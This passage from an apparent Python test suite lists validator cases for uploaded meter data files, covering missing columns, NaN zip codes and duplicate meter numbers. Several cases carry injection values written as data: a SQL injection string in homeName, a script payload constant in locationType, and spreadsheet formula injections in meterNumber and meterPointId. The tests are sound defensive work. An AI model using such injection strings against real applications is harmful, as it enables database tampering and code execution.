    _m("meter_missing_columns", lambda: b"meterNumber\nM-1\n", None, "Missing required"),
    _m("meter_script_in_location_type", lambda: meter_file(locationType=SCRIPT), 2, "locationType"),
    _m("meter_sql_in_home_name", lambda: meter_file(homeName="x' OR '1'='1"), 2, "homeName"),
    _m("meter_nan_zipcode", lambda: meter_file(zipcode="NaN"), 2, "zipcode"),
    _m(
        "meter_duplicate_number",
        lambda: (METER_HEADER + METER_ROW + METER_ROW).encode(),
        3,
        "meterNumber",
    ),
    _m(
        "meter_formula_in_number",
        lambda: meter_file(meterNumber=FORMULA),
        2,
        "meterNumber",
    ),
    _m(
        "meter_formula_in_point_id",
        lambda: meter_file(meterPointId="@SUM(1+1)"),
        2,
        "meterPointId",
    ),
)
